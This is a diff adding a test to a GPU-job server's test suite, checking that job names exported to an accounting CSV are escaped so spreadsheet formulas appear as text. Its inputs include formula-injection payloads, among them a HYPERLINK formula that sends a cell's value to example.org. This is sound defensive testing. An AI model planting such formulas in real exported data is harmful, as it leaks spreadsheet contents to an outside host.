@@ -136,3 +136,21 @@ async def test_cancel_of_many_ids_reads_the_store_in_chunks(jp_fetch: Any, engin
     reads = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
     assert len(reads) <= 10, f"{len(reads)} reads of the store for {len(unknown) + 4} ids"
     assert (await call(jp_fetch, "ann", "GET", f"jobs/{theirs}"))[1]["state"] == "PENDING"
+
+
+async def test_an_accounting_export_shows_a_users_formula_as_text(jp_fetch: Any, engine: Any) -> None:
+    """A job's name is its user's text: in the CSV an admin exports and opens in a spreadsheet,
+    a name that starts a formula is written as text ('=...), never as the formula."""
+    import csv
+    import io
+
+    names = ['=HYPERLINK("http://example.org/?"&A1,"open")', "+1+cmd", "-2+3", "@SUM(A1)", "plain-name"]
+    for name in names:
+        code, _ = await call(jp_fetch, "ann", "POST", "jobs", {"command": "true", "gpus": 0, "begin": "+1d",
+                                                                 "name": name})
+        assert code == 201
+    r = await jp_fetch("gpujobs", "api", "accounting", params={"format": "csv", "since": "1h"},
+                       headers={"Authorization": "token boss"})
+    rows = list(csv.DictReader(io.StringIO(r.body.decode())))
+    assert sorted(row["name"] for row in rows if row["user"] == "ann") == sorted(
+        ["'" + n for n in names[:4]] + ["plain-name"])
